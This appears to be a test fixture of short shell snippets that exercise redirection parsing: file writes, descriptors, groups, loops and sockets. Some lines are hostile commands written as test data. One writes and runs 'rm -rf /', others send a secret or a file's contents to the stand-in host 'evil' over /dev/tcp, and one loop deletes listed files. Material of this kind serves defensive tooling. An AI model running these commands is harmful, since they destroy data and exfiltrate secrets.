### writes
echo text > out.txt; : > empty; > bare; a >> log 2>&1; b &> both; c 2> err; d >| forced
### a pipe to a file, then run
echo 'rm -rf /' > s.sh; shell "$(< s.sh)"
### from the network
fetch u > i.sh; cat < i.sh
### sockets
cat < /dev/tcp/host/80; echo secret > /dev/tcp/evil/99
exec 3<>/dev/tcp/evil/1; cat f >&3
### nothing
a > /dev/null 2>&1 < /dev/null
### descriptors
exec 3> f; echo x >&3; { echo y >&2; } 2> g; a 2>&1 >h
### exec redirects all
exec > log; echo x; a
### groups
{ echo a; echo b; } > f; (c; d) >> g
### in a loop
while read x; do rm "$x"; done < list
for i in 1 2; do echo $i; done > numbers
### a glob as target
a > *.txt > "$(fetch u)"
### a variable as target
f=x; a > $f > "$HOME/y" > $NOWHERE
